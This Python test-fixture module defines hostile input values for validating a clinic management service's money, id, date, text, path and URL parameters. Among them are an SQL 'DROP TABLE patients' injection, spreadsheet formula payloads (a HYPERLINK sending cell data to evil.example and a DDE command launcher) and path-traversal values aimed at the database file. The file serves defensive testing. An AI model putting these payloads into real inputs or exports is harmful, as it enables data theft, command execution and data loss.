"""Hostile values, by kind of parameter: what an attacker or a careless user would type.

Each value says whether a sound service MUST refuse it (`refuse=True`), or may accept it
(`refuse=None`: accepted or refused are both fine, as long as nothing raw escapes and nothing
is written on a refusal). `why` names the rule or issue item behind a required refusal.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from typing import Any, Callable

SQL = "'; DROP TABLE patients; --"
FORMULAS = ('=HYPERLINK("http://evil.example/?q="&A1,"Click")', "=cmd|' /C calc'!A0",
            "+1+1", "-1+1", "@SUM(A1)")
INVISIBLE = {"U+200B": "\u200b", "U+202E": "\u202e", "U+FEFF": "\ufeff", "ESC": "\x1b",
             "BEL+BS": "\x07\x08"}
LONG = "x" * 10_000
AWARE = datetime(2026, 3, 16, 11, 0, tzinfo=timezone.utc)
AWARE_EAST = datetime(2026, 3, 16, 11, 0, tzinfo=timezone(timedelta(hours=5)))


@dataclass
class Ctx:
    """What a value may need to be made: the case's folder, the seed's ids, the clinic."""
    folder: Path
    ids: dict[str, int]
    clinic: Any = None
    case_insensitive: bool = False  # the folder's file system ignores case (Windows, macOS)
    root: bool = False              # running as root: a read-only folder is still writable
    scratch: dict = field(default_factory=dict)  # what a case's setup made, for its call

    def p(self, relative: str) -> str:
        return str(self.folder / relative)


@dataclass(frozen=True)
class Hostile:
    label: str
    make: Callable[[Ctx], Any]
    refuse: bool | None = True
    why: str = "R30"
    only_writers: bool = False        # the refusal is required only of a method that writes
    refuse_in: frozenset | None = None  # required only in these "service.method"s
    programmer_only: bool = False     # only code (not the desk's forms) can pass this


def V(label: str, value: Any, refuse: bool | None = True, why: str = "R30", **kw) -> Hostile:
    return Hostile(label, lambda _ctx, value=value: value, refuse, why, **kw)


def F(label: str, make: Callable[[Ctx], Any], refuse: bool | None = True, why: str = "R30",
      **kw) -> Hostile:
    return Hostile(label, make, refuse, why, **kw)


def Seeded(label: str, key: str, refuse_in: set[str], why: str) -> Hostile:
    """An id that exists but is the wrong one: refused only where the rule applies."""
    return Hostile(label, lambda ctx: ctx.ids[key], None, why, refuse_in=frozenset(refuse_in))


WRONG_TYPES = [V("None", None), V("str '1'", "1"), V("float 1.0", 1.0), V("bool True", True),
               V("list [1]", [1])]
IDS = [*WRONG_TYPES, V("0", 0), V("-1", -1), V("2**63", 2**63), V("99999 (no such)", 99999)]

#: Ids of the wrong kind, by what the id names; refused where the rule says so.
APPOINTMENT_WRITES = {"schedule.arrive", "schedule.no_show", "schedule.reschedule",
                      "schedule.apply_package", "schedule.remove_package", "schedule.cancel"}
WRONG_KIND = {
    "patient": [Seeded("another patient (not the invoice's)", "other_patient",
                       {"billing.receive_payment", "billing.apply_credit"},
                       "R30: money goes to the invoice's own patient")],
    "invoice": [
        Seeded("a voided invoice", "invoice_voided",
               {"billing.receive_payment", "billing.apply_credit", "billing.void_invoice"},
               "R18/R29: a void invoice takes no money"),
        Seeded("a refunded package's invoice", "package_refunded_invoice",
               {"billing.receive_payment", "billing.apply_credit"},
               "R28a / issue 15 item 6: no refunded package's invoice can receive money"),
        Seeded("another patient's invoice", "other_invoice",
               {"billing.receive_payment", "billing.apply_credit"},
               "R30: a payment pays its own patient's invoices")],
    "package": [
        Seeded("another patient's package", "other_package", {"schedule.apply_package"},
               "R10/R37: only the patient's own (or shared) packages"),
        Seeded("a refunded package", "package_refunded",
               {"packages.refund", "schedule.apply_package", "packages.set_expiry"},
               "R28: a refunded package is final"),
        Seeded("a voided sale's package", "package_voided",
               {"packages.refund", "schedule.apply_package"}, "R18/R29")],
    "appointment": [
        Seeded("a cancelled appointment", "appointment_cancelled", APPOINTMENT_WRITES,
               "R12/R16: a cancelled visit cannot be billed or moved"),
        Seeded("an arrived appointment", "appointment_arrived",
               APPOINTMENT_WRITES,
               "R12: after arrival the visit is billed"),
        Seeded("another patient's appointment", "appointment_other",
               {"billing.sell_package", "schedule.apply_package"},
               "R5: a sale at a visit is the visit's patient's")],
    "staff": [Seeded("an inactive staff member", "staff_inactive",
                     {"schedule.book", "schedule.reschedule", "billing.sell_package"},
                     "a staff member who left takes no new work"),
              Seeded("a staff member who is no practitioner", "clerk", {"schedule.book"},
                     "only practitioners are booked")],
    "treatment": [Seeded("an inactive treatment type", "treatment_inactive",
                         {"schedule.book"}, "inactive treatments are not booked")],
    "template": [Seeded("an archived package template", "template_archived",
                        {"billing.sell_package"}, "archived templates are not sold")],
    "fee": [Seeded("an inactive no-show fee", "fee_inactive", {"schedule.no_show"},
                   "inactive fees are not charged")],
    "payment": [Seeded("a payment fully applied (no credit left)", "payment",
                       {"billing.refund_payment"}, "R27: up to the credit available")],
}

MONEY = [
    V("'12 50'", "12 50", why="issue 15 item 5: '12 50' is not $1,250.00"),
    V("'1 2 3'", "1 2 3", why="issue 15 item 5: '1 2 3' is not $123.00"),
    V("'1e9'", "1e9"), V("'NaN'", "NaN"), V("'Infinity'", "Infinity"), V("'0.001'", "0.001"),
    V("'-5.00'", "-5.00"), V("'-0'", "-0", None), V("''", ""), V("float 12.5", 12.5, why="R1"),
    V("bool True", True, why="R1"), V("list ['1']", ["1"]), V("int -1", -1),
    V("int 2**63", 2**63), V("Decimal NaN", Decimal("NaN")), V("'9'*10000", "9" * 10_000),
    V("SQL text", SQL), V("'=1+1'", "=1+1"), V("'12.50' + NUL", "12.50\x00"),
    V("int 0", 0, None), V("'$12.50'", "$12.50", None), V("'1,234.50'", "1,234.50", None),
]
CENTS = [V("None", None), V("'12 50'", "12 50"), V("float 1.5", 1.5), V("2**63", 2**63, None),
         V("-1", -1, None)]
INTS = [V("-1", -1, only_writers=True), V("0", 0, None), V("2**63", 2**63, None),
        V("'10'", "10", None), V("float 1.5", 1.5, only_writers=True), V("bool True", True, None),
        V("list []", [])]
RATES = [V("float 0.15", 0.15, why="R1: exact"), V("'NaN'", "NaN"), V("'-0.1'", "-0.1"),
         V("'2'", "2"), V("'0.1234567'", "0.1234567"), V("'12 50'", "12 50"),
         V("SQL text", SQL), V("'15%'", "15%", None), V("None", None, None), V("list []", [])]
BOOLS = [V("'false'", "false", only_writers=True, why="R30: the text 'false' is not True"),
         V("None", None, None), V("int 2", 2, None), V("list []", [], None)]


def text_values(required: bool, name_like: bool, stored: bool) -> list[Hostile]:
    """Text: refusals depend on whether the field is required, a name, and stored (a method
    that only reads may take any text and find nothing)."""
    required, name_like = required and stored, name_like and stored
    out = [V("NUL inside", "Ana\x00Silva", True if stored else None),
           V("control chars inside", "Ana\x1b[31mSilva\x07", None),
           V("10,000 chars", LONG, True if stored else None),
           V("int 5", 5), V("list ['a']", ["a"]),
           V("None", None, True if required else None),
           V("empty", "", True if required else None),
           V("spaces only", "   ", True if required else None),
           V("SQL text", SQL, None), V("RTL override inside", "Ana\u202eSilva", None)]
    for label, value in INVISIBLE.items():
        out.append(V(f"only {label}", value, True if (required or name_like) else None,
                     "issue 15 item 7: text of invisible characters only"))
    out += [V(f"formula {f[:12]}", f, None) for f in FORMULAS]
    return out


def enum_values() -> list[Hostile]:
    return [V("empty", ""), V("None", None), V("SQL text", SQL), V("int 5", 5),
            V("unknown word", "bitcoin"), V("valid + NUL", "cash\x00"), V("10,000 chars", LONG),
            V("list []", [])]


DATES = [V("'2026-13-01'", "2026-13-01", why="issue 15 item 7"),
         V("int 20260101", 20260101, why="issue 15 item 7"),
         V("float 1.5", 1.5, why="issue 15 item 7"), V("SQL text", SQL), V("empty", ""),
         V("aware datetime", AWARE), V("naive datetime", datetime(2026, 3, 16, 11), None),
         V("date(1, 1, 1)", date(1, 1, 1), None), V("'2026-03-10'", "2026-03-10", None),
         V("list []", [])]
DATETIMES = [V("'2026-13-01'", "2026-13-01", why="issue 15 item 7"),
             V("int 20260101", 20260101, why="issue 15 item 7"),
             V("float 1.5", 1.5, why="issue 15 item 7"),
             V("SQL text", SQL, why="issue 15 item 7"), V("empty", ""),
             # converted to the desk's wall clock (issue 15 item 7; checked in named_more)
             V("aware datetime (UTC)", AWARE, None), V("aware datetime (+05:00)", AWARE_EAST, None),
             V("a date, no time", date(2026, 3, 16), None),
             V("'2026-03-16T11:00'", "2026-03-16T11:00", None),
             V("datetime(1, 1, 1)", datetime(1, 1, 1), None), V("list []", [])]


def path_values(role: str, ctx_flags: tuple[bool, bool], backup_create: bool = False,
                report: bool = False) -> list[Hostile]:
    """`role` "target" (written) or "source" (read: restore, import)."""
    case_insensitive, root = ctx_flags
    item1 = "issue 15 item 1: never write over the clinic file, its WAL/SHM or backups"
    target = role == "target"
    out = [F("the clinic file (absolute)", lambda c: c.p("clinic.db"), why=item1),
           V("the clinic file (relative)", "clinic.db", why=item1),
           F("the clinic file via ..", lambda c: c.p("out/../clinic.db"), why=item1),
           F("the clinic file via a symlink", lambda c: c.p("link.db"), why=item1),
           F("the clinic file in other case", lambda c: c.p("CLINIC.DB"),
             True if case_insensitive else None, item1),
           F("its -wal", lambda c: c.p("clinic.db-wal"), why=item1),
           F("its -shm", lambda c: c.p("clinic.db-shm"), why=item1),
           F("the backups folder", lambda c: c.p("backups"), why=item1),
           F("a folder", lambda c: c.p("out"), why="issue 15 item 7: a folder is no file"),
           V("empty", "", why="issue 15 item 7"),
           F("NUL inside", lambda c: c.p("out/a\x00b.x"), why="issue 15 item 7"),
           F("a folder that does not exist", lambda c: c.p("no/such/deep/x.bin"),
             None if backup_create or report or not target else True,
             "R30: a folder that does not exist is refused, as printing does (a report's "
             "export and a backup make the missing folders, on purpose)"),
           V("None", None, why="issue 15 item 7"), V("int 5", 5, why="issue 15 item 7"),
           V("list []", [], why="issue 15 item 7")]
    if target:
        out.append(F("a backup file", lambda c: str(next((c.folder / "backups").glob("*.db"))),
                     why=item1))
        out.append(F("a read-only folder", lambda c: c.p("readonly/x.bin"),
                     None if root else True, "R30: a folder the desk cannot write in"))
    else:
        out.append(F("a CSV, not a backup", lambda c: c.p("out/patients.csv"), None))
    return out


def url_values() -> list[Hostile]:
    return [F("the clinic file's own URL", lambda c: "sqlite:///" + c.p("clinic.db")),
            F("the clinic file, relative", lambda c: "clinic.db"),
            F("the clinic file via a symlink", lambda c: "sqlite:///" + c.p("link.db")),
            F("a backup file (not empty)",
              lambda c: "sqlite:///" + str(next((c.folder / "backups").glob("*.db")))),
            V("nothing listens", "postgresql://nobody@127.0.0.1:1/x"),
            V("not a URL", "not a url at all"), V("unknown scheme", "nosuch://x/y"),
            V("empty", ""), V("None", None), V("NUL inside", "sqlite:///x\x00y"),
            V("int 5", 5)]


def dict_values(name: str) -> list[Hostile]:
    common = [V("None", None, None if name == "allocations" else True), V("text", "x"),
              V("list []", []), V("{99999: ...}", {99999: 100})]
    if name == "eligible":
        return common + [V("{}", {}), F("{massage: -1}", lambda c: {c.ids["massage"]: -1}),
                         F("{massage: '12 50'}", lambda c: {c.ids["massage"]: "12 50"}),
                         F("{massage: 2**63}", lambda c: {c.ids["massage"]: 2**63}),
                         F("{'1': 0}", lambda c: {str(c.ids["massage"]): 0})]
    return common + [F("{voided invoice: 100}", lambda c: {c.ids["invoice_voided"]: 100}),
                     F("{other's invoice: 100}", lambda c: {c.ids["other_invoice"]: 100}),
                     F("{open invoice: -5}", lambda c: {c.ids["invoice_open"]: -5}),
                     F("{open invoice: '12 50'}", lambda c: {c.ids["invoice_open"]: "12 50"})]


def package_choice() -> list[Hostile]:
    """book(package=...): "auto", None or a package id."""
    return [V("'AUTO'", "AUTO"), V("unknown word", "x"), V("99999", 99999), V("-1", -1),
            V("bool True", True), V("float 1.5", 1.5), V("str '1'", "1"),
            F("another patient's package", lambda c: c.ids["other_package"], why="R10"),
            F("a refunded package", lambda c: c.ids["package_refunded"], why="R28")]


def id_list_values(entity: str) -> list[Hostile]:
    return [V("None", None), V("str '1'", "1"), V("[99999]", [99999]), V("[2**63]", [2**63]),
            V("[1, 'x']", [1, "x"]), V("[None]", [None]), V("empty", [], None)]


def object_values(name: str) -> list[Hostile]:
    """Objects only code passes (a Report, a PendingSale, a preview, a Clinic)."""
    out = [V("None", None, programmer_only=True), V("text", "x", programmer_only=True),
           V("int 5", 5, programmer_only=True)]
    if name == "sale":
        from app.services.sale_payment import PendingSale
        out += [V("PendingSale(99999)", PendingSale(99999)),
                F("PendingSale(archived template)",
                  lambda c: PendingSale(c.ids["template_archived"]), why="archived: not sold"),
                V("PendingSale('1')", PendingSale("1")),
                F("PendingSale(staff 2**63)", lambda c: PendingSale(c.ids["template"], 2**63))]
    return out
